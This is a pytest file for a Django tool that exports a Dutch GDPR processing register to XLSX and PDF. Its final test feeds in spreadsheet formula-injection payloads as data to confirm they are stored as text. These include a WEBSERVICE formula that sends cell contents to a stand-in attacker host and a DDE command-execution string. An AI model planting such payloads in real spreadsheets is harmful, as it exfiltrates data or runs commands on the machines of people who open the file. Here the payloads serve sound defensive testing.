"""The verwerkingsregister (Art. 30(1) a-g) from the same answers: read back from XLSX."""

import io
import subprocess
import sys
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from generator.statements.register import COLUMNS, register_rows, register_xlsx
from generator.statements.services import organisation_create
from tests.conftest import EXAMPLES_DIR, ROOT, load_example
from tests.factories import MembershipFactory


def test_every_column_is_filled_for_every_activity_of_every_example(slug):
    answers = load_example(slug)
    sheet = load_workbook(io.BytesIO(register_xlsx(answers))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == [title for _key, title in COLUMNS]
    assert len(rows) - 1 == len(answers.activities)
    for row in rows[1:]:
        assert all(cell and str(cell).strip() for cell in row), row
    assert [row[0] for row in rows[1:]] == [a.name for a in answers.activities]


def test_the_columns_say_what_art_30_asks():
    rows = {row["activity"]: row for row in register_rows(load_example("ipcall"))}
    statistics = rows["Statistieken over onze website"]
    assert (
        "ipcall.me B.V., Vijverberg 4, 3911 JP Rhenen, info@ipcall.me" in statistics["controller"]
    )
    assert (
        "Google LLC (Google Analytics) (Verenigde Staten): het Data Privacy Framework"
        in statistics["transfers"]
    )
    assert statistics["retention"] == "14 maanden na het bezoek"
    assert "zeven jaar (fiscale bewaarplicht)" in rows["Bestellingen afhandelen"]["retention"]
    assert rows["Locatie"]["recipients"] == "geen" and rows["Locatie"]["transfers"] == "geen"
    assert "verbindingen met onze website en diensten zijn versleuteld" in statistics["security"]
    facetalk = register_rows(load_example("facetalk"))[0]
    assert "FG: Pieter Peletier, pieter.peletier@qconferencing.net" in facetalk["controller"]


def test_the_command_writes_xlsx_and_pdf(tmp_path):
    for fmt in ("xlsx", "pdf"):
        output = tmp_path / f"register.{fmt}"
        result = subprocess.run(
            [sys.executable, "manage.py", "export_register", str(EXAMPLES_DIR / "qlinx.json"), "--format", fmt, "--output", str(output)],
            cwd=ROOT, capture_output=True, text=True, timeout=120,
            env={"DJANGO_SETTINGS_MODULE": "tests.settings", "PATH": "/usr/bin:/bin"},
        )  # fmt: skip
        assert result.returncode == 0, result.stderr
    assert "Verwerkingsregister" in PdfReader(tmp_path / "register.pdf").pages[0].extract_text()
    bad = tmp_path / "bad.json"
    bad.write_text('{"controller": {"kvk_number": "1"}}')
    result = subprocess.run(
        [sys.executable, "manage.py", "export_register", str(bad), "--format", "xlsx", "--output", str(tmp_path / "x.xlsx")],
        cwd=ROOT, capture_output=True, text=True, timeout=120,
        env={"DJANGO_SETTINGS_MODULE": "tests.settings", "PATH": "/usr/bin:/bin"},
    )  # fmt: skip
    assert result.returncode == 2 and result.stderr.startswith("controller.kvk_number:")
    assert not (tmp_path / "x.xlsx").exists()


@pytest.mark.django_db
def test_the_register_downloads_for_members_only(client):
    owner = MembershipFactory()
    organisation = organisation_create(
        workspace=owner.workspace, name="Q", answers=load_example("qlinx").model_dump(mode="json")
    )
    client.force_login(owner.user)
    response = client.get(reverse("statements:register", args=[organisation.pk, "xlsx"]))
    assert (
        response.status_code == 200
        and load_workbook(io.BytesIO(response.content)).active.max_row == 8
    )
    client.force_login(MembershipFactory().user)
    assert (
        client.get(reverse("statements:register", args=[organisation.pk, "pdf"])).status_code == 404
    )


@pytest.mark.parametrize(
    "text",
    [
        '=WEBSERVICE("https://aanvaller.example/?"&A1)',
        '=HYPERLINK("https://aanvaller.example","Klik")',
        "+31 20 123 4567",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
    ],
)
def test_an_answer_that_looks_like_a_formula_is_stored_as_text(text):
    # Issue 17: openpyxl wrote such an answer as a formula that Excel would run.
    answers = load_example("qlinx")
    answers.activities[0].name = text
    answers.activities[0].purpose = text
    data = register_xlsx(answers)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == text]
    assert len(cells) >= 2 and all(cell.data_type == "s" for cell in cells)
